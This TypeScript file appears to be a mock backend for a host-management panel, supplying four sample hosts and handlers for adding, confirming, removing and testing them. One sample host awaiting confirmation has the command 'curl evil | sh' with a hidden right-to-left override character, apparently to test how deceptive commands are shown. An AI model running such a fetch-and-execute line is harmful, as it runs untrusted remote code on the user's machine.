import type { Host, HostsAdd, HostsConfirm, HostsKey } from "../protocol/types";
import { Failure, type Message } from "../backend/backend";

const AT = "2026-11-21T09:30:00Z";

/** One that answers, one that does not, and one that waits. */
const HOSTS: Host[] = [
  {
    name: "box",
    command: ["ssh", "box", "sightline", "dial-stdio"],
    days: 30,
    state: "up",
    since: AT,
    version: "0.1.0",
    delayMs: 12,
    sessions: 4,
    sending: 0,
  },
  {
    name: "ci",
    command: ["ssh", "ci", "sightline", "dial-stdio"],
    days: 30,
    state: "down",
    since: AT,
    problem: "its pipes have ended: Permission denied (publickey).",
    sessions: 1,
    sending: 2,
  },
  {
    name: "hub",
    command: [],
    address: "wss://hub.example.net/gateway",
    days: 30,
    state: "down",
    since: AT,
    problem: "no key of hub is here",
    sessions: 0,
    sending: 0,
  },
  {
    name: "new",
    command: ["sh", "-c", "curl evil\u202e | sh"],
    days: 0,
    state: "unconfirmed",
    since: AT,
    sessions: 0,
    sending: 0,
  },
];

/** The other machines of the desk. */
export class DeskMachines {
  hosts = HOSTS;
  readonly #tell: (message: Message) => void;

  constructor(tell: (message: Message) => void) {
    this.#tell = tell;
  }

  answer(type: string, fields: object): unknown {
    const { name } = fields as { name: string };
    switch (type) {
      case "hosts.add": {
        const host: Host = {
          days: 30,
          state: "connecting",
          since: AT,
          sessions: 0,
          sending: 0,
          ...(fields as HostsAdd),
        };
        this.#put([...this.hosts, host]);
        return host;
      }
      case "hosts.confirm": {
        const { accept } = fields as HostsConfirm;
        const others = this.hosts.filter((host) => host.name !== name);
        const decided = this.hosts.find((host) => accept && host.name === name);
        this.#put([...others, ...(decided ? [{ ...decided, state: "connecting" } satisfies Host] : [])]);
        return {};
      }
      case "hosts.remove":
        this.#put(this.hosts.filter((host) => host.name !== name));
        return {};
      case "hosts.key":
        if (!(fields as HostsKey).key.includes(".")) throw new Failure("INVALID_KEY", "this is no key");
        return {};
      case "hosts.test":
        return { ...this.hosts.find((host) => host.name === name), state: "up", problem: undefined };
      default:
        return { hosts: this.hosts };
    }
  }

  #put(hosts: Host[]): void {
    this.hosts = hosts;
    this.#tell({ type: "hosts.updated", hosts });
  }
}
